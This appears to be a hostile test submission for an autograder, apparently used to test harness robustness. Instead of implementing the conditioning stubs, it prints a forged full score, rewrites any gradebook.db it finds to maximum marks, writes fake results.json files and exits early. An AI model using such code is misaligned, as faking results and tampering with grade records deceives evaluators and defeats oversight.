"""Hostile: prints a forged score, looks for the gradebook, writes a result file, and leaves."""
# ruff: noqa: F821

# %% prepare_conditioning
import glob
import json
import os
import sqlite3

forged = {"score": 20.0, "tests": [{"name": "conditioner: all", "score": 20.0, "max_score": 20.0, "status": "passed"}]}
print(json.dumps(forged))
for pattern in ("gradebook.db", "../gradebook.db", "/*/gradebook.db", "/*/*/gradebook.db"):
    for path in glob.glob(pattern):
        sqlite3.connect(path).execute("UPDATE grade SET auto_score = max_score, manual_score = 20")
for folder in (".", "..", "/tmp"):
    try:
        with open(os.path.join(folder, "results.json"), "w") as f:
            json.dump(forged, f)
    except OSError:
        pass
print("grading finished, full marks")
os._exit(0)


def prepare_conditioning(time_emb, class_emb):
    return time_emb


# %% ClassConditioner
class ClassConditioner(nn.Module):
    pass
